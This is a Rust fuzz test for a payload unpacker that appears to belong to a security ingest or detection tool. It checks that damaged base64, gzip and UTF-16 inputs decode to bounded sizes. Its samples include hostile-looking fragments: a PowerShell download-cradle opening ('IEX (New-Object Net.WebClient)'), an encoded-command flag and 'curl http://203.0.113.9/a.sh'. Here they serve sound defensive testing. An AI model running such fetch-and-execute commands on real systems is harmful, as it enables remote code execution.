//! Values that carry something packed: whatever is done to them, what comes out is bounded and never more layers deep.

use crate::{Numbers, mutate, rounds};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use std::io::Write;
use watchkeep_ingest::payload::{Inside, UNPACKED, payloads};

#[test]
fn damaged_payloads_unpack_to_little_or_nothing() {
    let gzip = |bytes: &[u8]| {
        let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        packed.write_all(bytes).expect("packed");
        packed.finish().expect("packed")
    };
    let wide: Vec<u8> = "IEX (New-Object Net.WebClient)".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let samples = [wide.clone(), gzip(&wide), gzip(&vec![b'a'; 300 << 10]), b"curl http://203.0.113.9/a.sh".to_vec()];
    let mut numbers = Numbers(0x5eed_0030);
    let mut found = 0;
    for round in 0..rounds(1_000) {
        let sample = &samples[round % samples.len()];
        // Damaged inside, or in its letters.
        let packed = STANDARD.encode(mutate(sample, b"\x00\x1f\x8b\x08\xff", &mut numbers));
        let letters = mutate(packed.as_bytes(), b"=+/-_ \"'AZ09", &mut numbers);
        for text in [format!("x -enc {packed}"), String::from_utf8_lossy(&letters).into_owned()] {
            for one in payloads(&text) {
                found += 1;
                assert!((1..=4).contains(&one.packed.len()), "{one:?}");
                let size = match &one.inside {
                    Inside::Text(text) | Inside::Utf16(text) => text.len(),
                    Inside::Bytes(bytes) => bytes.len(),
                    Inside::TooBig => 0,
                };
                assert!(size <= UNPACKED * 2, "{size}");
            }
        }
    }
    assert!(found > 500, "{found}");
}
